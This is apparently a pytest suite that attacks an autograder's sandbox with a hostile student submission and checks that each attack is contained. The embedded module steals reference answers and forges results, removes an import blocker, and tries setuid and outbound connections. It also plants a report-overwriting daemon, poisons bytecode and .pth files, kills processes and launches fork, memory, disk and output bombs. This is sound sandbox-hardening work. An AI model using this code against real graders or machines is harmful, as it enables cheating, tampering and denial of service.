"""Hostile submissions against the OS sandbox, in each isolation mode that can run here.

The grader runs as a subprocess (``python -m autograder``, as on Gradescope) from a private copy
of itself with the reference ``minitorch`` next to it, grading a submission whose matmul gradient
and bmm gradients are stubs (they deserve 0 of matmul's 13 points) plus hostile code. Every run must end with the
score the code deserves, the grader's files unchanged, the report written by the grader alone and
no process of the attack left. A control run without a sandbox shows that the secrets attacks are
real (they reach fixtures, the reference or torch there and earn full marks).

CI runs this file in bwrap mode (the default) and again with MINITORCH_SANDBOX=setpriv; a mode that
cannot run here is skipped with the reason.
"""
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import uuid

import pytest

from autograder import sandbox

from .bugs import REPO, make_submission
from .sandbox_modes import require_mode

M = "minitorch/kernels/matmul.py"
STUB_OLD = "    # BEGIN SOLUTION hw1\n    a2 = a[None, :] if a.ndim == 1 else a"
STUB_NEW = ("    # BEGIN SOLUTION hw1\n    return _attack.backward(a, b, dout)\n"
            "    a2 = a[None, :] if a.ndim == 1 else a")
BMM = ("    # BEGIN SOLUTION hw1\n    return dout @ xp.swapaxes(b, 1, 2)",
       "    # BEGIN SOLUTION hw1\n    return _attack.backward(a, b, dout)\n    return dout @ xp.swapaxes(b, 1, 2)")
HEAD = ('"""Matrix products', 'from . import _attack\n"""Matrix products')

# The hostile module, shared by all attacks; ``{token}`` marks every process it creates (its
# /proc/<pid>/comm), ``{kind}`` picks the attacks, ``{port}`` is the test's listening socket.
ATTACK = r'''
import os, sys, time
TOKEN, KIND, PORT, HOSTS, RUNNER = {token!r}, {kind!r}, {port!r}, {hosts!r}, {runner!r}
NOTES = []
# Destructive attacks (kill(-1), daemons, writing files, bombs) run only as a uid that is neither
# root nor the test runner's: if the sandbox ever failed to switch users, they must not hit the host.
ARMED = os.getuid() not in (0, RUNNER) and os.geteuid() not in (0, RUNNER)
if KIND in ("escape", "bombs") and not ARMED:
    raise RuntimeError("UNSANDBOXED: the attack runs as the grader's own user; it refuses to act")


def name_me():
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, TOKEN.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def paths():
    """Folders a process can learn about: /proc of its parent and of pid 1, and every parent folder."""
    found = set()
    for pid in ("1", str(os.getppid())):
        for what in ("cwd", "root"):
            try:
                found.add(os.readlink(f"/proc/{{pid}}/{{what}}"))
            except OSError:
                pass
        try:
            for a in open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\0"):
                a = a.decode("utf-8", "replace")
                if a.startswith("/"):
                    found.add(a)
        except OSError:
            pass
    out = set()
    for p in found:
        while p not in ("/", ""):
            out.add(p)
            p = os.path.dirname(p)
    return sorted(out)


def find(rel, ok=lambda path: True):
    for p in paths():
        q = os.path.join(p, rel)
        try:
            if os.path.isfile(q) and ok(q):
                open(q, "rb").read(1)
                return q
        except OSError:
            pass
    return None


def cmdline_arg(flag):
    try:
        args = open(f"/proc/{{os.getppid()}}/cmdline", "rb").read().split(b"\0")
        return args[args.index(flag.encode()) + 1].decode()
    except (OSError, ValueError, IndexError):
        return None


# ---------------------------------------------------------------- secrets: fixtures, reference, torch
FORGED = {{}}


def forge_from_fixtures():
    fx = (find("hw1.npz") or find("autograder/fixtures/hw1.npz") or find("fixtures/hw1.npz"))
    if not fx:
        return False
    import numpy as np
    data = np.load(fx)
    orig = np.savez

    def savez(file, **arrays):  # replaces the child's result writer
        f = sys._getframe(1)
        while f is not None and "item" not in f.f_locals:
            f = f.f_back
        label, _, inst = f.f_locals["item"]["instance"].rpartition(":") if f is not None else ("", "", "")
        if f is not None and label in ("", "public"):  # public fixtures hold public answers only
            for k in data.files:
                if k.startswith(inst + "/"):
                    rest = k[len(inst) + 1:]
                    if rest.startswith(("out/", "grad/")):
                        arrays[rest] = data[k]
        return orig(file, **arrays)

    np.savez = savez
    return True


def reference_backward():
    src = find("minitorch/kernels/matmul.py", ok=lambda q: TOKEN not in open(q).read())
    if not src:
        return None
    code = open(src).read().replace("from ..backend", "from minitorch.backend").replace(
        "from .elementwise", "from minitorch.kernels.elementwise")
    ns = {{}}
    exec(compile(code, src, "exec"), ns)
    # the reference's own forward builds the cache its backward reads (a named tuple)
    return lambda dout, operands: ns["matmul_backward"](dout, ns["matmul_forward"](*operands)[1])


def torch_module():
    for f in list(sys.meta_path):
        if type(f).__name__ == "ForbiddenImportBlocker":
            sys.meta_path.remove(f)
    import glob, importlib
    for pat in ("/root/.pyenv/versions/*/lib/python3*/site-packages", "/usr/local/lib/python3*/*-packages",
                "/usr/lib/python3/dist-packages", "/usr/lib/python3*/site-packages"):
        sys.path.extend(glob.glob(pat))
    try:
        return importlib.import_module("to" + "rch")
    except Exception as e:
        NOTES.append(f"torch: {{type(e).__name__}}")
        return None


def via_subprocess_and_ctypes():
    import ctypes, glob, subprocess
    for lib in glob.glob("/root/.pyenv/versions/*/lib/python3*/site-packages/torch/lib/libtorch_cpu.so"):
        try:
            ctypes.CDLL(lib)
            NOTES.append("ctypes loaded torch")
        except OSError:
            pass
    try:
        ctypes.CDLL(None).setuid(0)
    except Exception:
        pass
    for exe in (sys.executable, "/usr/bin/python3", "/usr/local/bin/python3"):
        try:
            r = subprocess.run([exe, "-c", "import torch; print('TORCH')"], capture_output=True, timeout=20)
            if b"TORCH" in r.stdout:
                NOTES.append(f"subprocess {{exe}} imported torch")
        except Exception:
            pass


def network():
    import socket
    for host in ["127.0.0.1"] + list(HOSTS):
        for fam in (socket.AF_INET,):
            try:
                s = socket.socket(fam, socket.SOCK_STREAM)
                s.settimeout(2)
                s.connect((host, PORT))
                s.sendall(TOKEN.encode())
                s.close()
            except Exception:
                pass


# ---------------------------------------------------------------- escape: daemon, poisoning, kill
def poison():
    """Try to change the grader for later runs: its bytecode cache and a .pth in site-packages."""
    targets = []
    for p in paths():
        for rel in ("autograder/__pycache__/compare.cpython-311.pyc", "__pycache__/compare.cpython-311.pyc",
                    "compare.py"):
            if os.path.isdir(os.path.join(p, os.path.dirname(rel) or ".")) or rel.startswith("autograder"):
                targets.append(os.path.join(p, rel))
    import glob
    for pat in ("/root/.pyenv/versions/*/lib/python3*/site-packages", "/usr/local/lib/python3*/*-packages",
                "/usr/lib/python3/dist-packages", "/var/cache/minitorch-sandbox/*/site/numpy",
                "/mt/py/site/numpy", "/mt/py/lib/python3*"):
        targets += [os.path.join(d, f"zz_{{TOKEN}}.pth") for d in glob.glob(pat)]
    targets += [os.path.join(p, "site", "numpy", f"zz_{{TOKEN}}.py") for p in sys.path if p]
    for t in targets:
        try:
            os.makedirs(os.path.dirname(t), exist_ok=True)
            with open(t, "a") as f:
                f.write("import os  # " + TOKEN + "\n")
        except OSError:
            pass


def daemon():
    report = cmdline_arg("--out")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            name_me()
            end = time.time() + 8
            while time.time() < end:
                for path in ([report] if report else []):
                    try:
                        with open(path, "w") as f:
                            f.write('{{"score": 100, "tests": [], "output": "' + TOKEN + '"}}')
                    except OSError:
                        pass
                poison()
                time.sleep(0.2)
            os._exit(0)
        os._exit(0)
    time.sleep(0.05)


# ---------------------------------------------------------------- bombs
def current_index():
    f = sys._getframe(1)
    while f is not None and "item" not in f.f_locals:
        f = f.f_back
    return f.f_locals["item"]["index"] if f is not None else 0


def _is_pipe(fd, stat):
    try:
        return stat.S_ISFIFO(os.fstat(fd).st_mode)
    except OSError:
        return False


def bomb(k):
    if k == 0:  # fork bomb
        for _ in range(2000):
            try:
                if os.fork() == 0:
                    name_me()
                    time.sleep(60)
                    os._exit(0)
            except OSError:
                break
        time.sleep(60)
    elif k == 1:  # memory bomb
        import numpy as np
        a = np.ones(1 << 34)
        return a
    elif k == 2:  # disk bomb
        chunk = b"x" * (1 << 20)
        for path in ("/tmp/" + TOKEN, TOKEN):
            try:
                with open(path, "wb") as f:
                    for _ in range(400):
                        f.write(chunk)
            except OSError:
                pass
        raise OSError("disk bomb done")
    elif k == 3:  # output bomb
        chunk = "y" * (1 << 20)
        for _ in range(30):
            sys.stdout.write(chunk)
            sys.stderr.write(chunk)
        raise RuntimeError("z" * (1 << 20))
    elif k == 4:  # status-pipe keepalive: "S i" on every pipe the process holds
        import stat
        i = current_index()
        fds = [fd for fd in range(0, 64) if _is_pipe(fd, stat)]
        end = time.time() + 60
        while time.time() < end:
            for fd in fds:
                try:
                    os.write(fd, f"S {{i}}\n".encode())
                except OSError:
                    pass
            time.sleep(0.01)


def backward(a, b, dout):
    if KIND == "secrets":
        ref = reference_backward()
        if ref is not None:
            return ref(dout, (a, b))
        torch = torch_module()
        via_subprocess_and_ctypes()
        network()
        if torch is not None:
            ta = torch.tensor(a, requires_grad=True)
            tb = torch.tensor(b, requires_grad=True)
            torch.matmul(ta, tb).backward(torch.tensor(dout))
            return ta.grad.numpy(), tb.grad.numpy()
        if FORGED.get("fixtures"):
            import numpy as np
            return np.zeros_like(a), np.zeros_like(b)
    elif KIND == "escape":
        try:
            os.kill(os.getppid(), 9)
        except OSError:
            pass
        try:
            os.kill(-1, 9)
        except OSError:
            pass
    elif KIND == "bombs":
        bomb(current_index() % 6)
    raise NotImplementedError("hw1 matmul_backward: see handouts/hw1/README.md")


if KIND == "secrets":
    FORGED["fixtures"] = forge_from_fixtures()
elif KIND == "escape":
    daemon()
    poison()
'''


def _digest(root):
    h = {}
    for d, _, files in os.walk(root):
        for f in files:
            p = os.path.join(d, f)
            with open(p, "rb") as fh:
                h[os.path.relpath(p, root)] = hashlib.sha256(fh.read()).hexdigest()
    return h


def _site_listing():
    import site
    out = {}
    for d in site.getsitepackages() + [os.path.join(sandbox.runtime_dir(), "site", "numpy")]:
        if os.path.isdir(d):
            out[d] = sorted(os.listdir(d))
    return out


def _procs_named(token):
    """Live processes of the attack (zombies are dead: a container's pid 1 may never reap them)."""
    pids = []
    for n in os.listdir("/proc"):
        if n.isdigit():
            try:
                with open(f"/proc/{n}/comm", encoding="utf-8") as f:
                    if f.read().strip() != token[:15]:
                        continue
                with open(f"/proc/{n}/stat", encoding="utf-8") as f:
                    if f.read().rsplit(")", 1)[1].split()[0] not in ("Z", "X"):
                        pids.append(int(n))
            except (OSError, IndexError):
                pass
    return pids


def _host_addresses():
    out = []
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("10.255.255.255", 1))
            out.append(s.getsockname()[0])
    except OSError:
        pass
    return [a for a in out if not a.startswith("127.")]


@pytest.fixture(scope="module")
def grader(tmp_path_factory):
    """A private copy of the grader (mode 700 folder), the reference package next to it, as in a checkout."""
    root = tmp_path_factory.mktemp("grader")
    os.chmod(root, 0o700)
    shutil.copytree(os.path.join(REPO, "autograder"), root / "autograder",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    shutil.copytree(os.path.join(REPO, "minitorch"), root / "minitorch",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    return root


def _attack(grader, tmp_path, mode, kind, timeout=3.0):
    assert mode != "none" or kind == "secrets", "destructive attacks never run without a sandbox"
    require_mode(mode)
    token = "mtatk" + uuid.uuid4().hex[:10]
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    sub = make_submission(str(tmp_path / "sub"), [(M, STUB_OLD, STUB_NEW), (M, *BMM), (M, *HEAD)])
    with open(os.path.join(sub, "minitorch", "kernels", "_attack.py"), "w", encoding="utf-8") as f:
        f.write(ATTACK.format(token=token, kind=kind, port=port, hosts=_host_addresses(), runner=os.getuid()))
    out = tmp_path / "results" / "results.json"
    before, site_before = _digest(grader), _site_listing()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "MINITORCH"))}
    env.update(PYTHONPATH=str(grader), PYTHONDONTWRITEBYTECODE="1")
    cmd = [sys.executable, "-m", "autograder", "hw1", "--submission", sub, "--test", "matmul",
           "--format", "gradescope", "--out", str(out), "--sandbox", mode, "--timeout", str(timeout),
           "--memory", "1024", "--fixtures", str(grader / "autograder" / "fixtures")]
    if mode == "none":
        cmd.append("--insecure")
    t0 = time.monotonic()
    r = subprocess.run(cmd, cwd=grader, env=env, capture_output=True, text=True, timeout=300)
    wall = time.monotonic() - t0
    report_bytes = out.read_bytes() if out.exists() else b""
    time.sleep(1.0 if kind != "escape" else 9.0)  # a surviving daemon would act now
    connections = 0
    while True:
        try:
            c, _ = listener.accept()
            c.close()
            connections += 1
        except BlockingIOError:
            break
    listener.close()
    left = _procs_named(token)
    for pid in left:  # never leave them on the machine, even when the test fails
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return dict(rc=r.returncode, stderr=r.stderr, wall=wall, report=report_bytes,
                report_after=out.read_bytes() if out.exists() else b"", grader_changed=_digest(grader) != before,
                site_changed=_site_listing() != site_before, left=left, connections=connections,
                stray=os.path.exists("/tmp/" + token))


def _assert_contained(res, mode, score=0.0):
    assert res["rc"] == 0, res["stderr"][-2000:]
    assert b"UNSANDBOXED" not in res["report"], "student code ran as the grader's own user"
    rep = json.loads(res["report"])
    assert rep["score"] == pytest.approx(score), rep
    assert f"sandbox: {mode}" in rep["output"]
    assert res["report_after"] == res["report"], "the report was changed after the grader wrote it"
    assert not res["grader_changed"], "the grader's files were changed"
    assert not res["site_changed"], "site-packages or the sandbox runtime were changed"
    assert res["left"] == [], f"processes of the attack are still running: {res['left']}"
    assert res["connections"] == 0, "a network connection reached the test's socket"
    assert not res["stray"], "a file written by the sandbox was left in /tmp"
    return rep


MODES = ["bwrap", "setpriv"]


@pytest.mark.parametrize("mode", MODES)
def test_secrets_fixtures_reference_torch_network_are_out_of_reach(grader, tmp_path, mode):
    rep = _assert_contained(_attack(grader, tmp_path, mode, "secrets"), mode)
    msgs = [t["output"] for t in rep["tests"]]
    assert any("NotImplementedError" in m for m in msgs), msgs


def test_secrets_control_without_a_sandbox_the_attack_works(grader, tmp_path):
    res = _attack(grader, tmp_path, "none", "secrets")
    rep = json.loads(res["report"])
    assert rep["score"] == pytest.approx(13.0), "the attack should succeed without a sandbox (else it tests nothing)"
    assert "sandbox: none (local feedback only)" in rep["output"]


@pytest.mark.parametrize("mode", MODES)
def test_escape_daemon_poisoning_and_killing_the_parent(grader, tmp_path, mode):
    _assert_contained(_attack(grader, tmp_path, mode, "escape"), mode)


@pytest.mark.parametrize("mode", MODES)
def test_bombs_and_keepalive_are_bounded(grader, tmp_path, mode):
    res = _attack(grader, tmp_path, mode, "bombs", timeout=3.0)
    rep = _assert_contained(res, mode)
    assert len(res["report"]) < 200_000, len(res["report"])
    assert res["wall"] < 90, res["wall"]  # 14 cases of at most 3 s each, most far shorter
    checks = [c for c in rep["tests"][0]["output"].splitlines()]
    assert all(len(line) < 2500 for line in checks)
    text = rep["tests"][0]["output"]
    assert "misused" in text or "timed out" in text  # the keepalive case was stopped
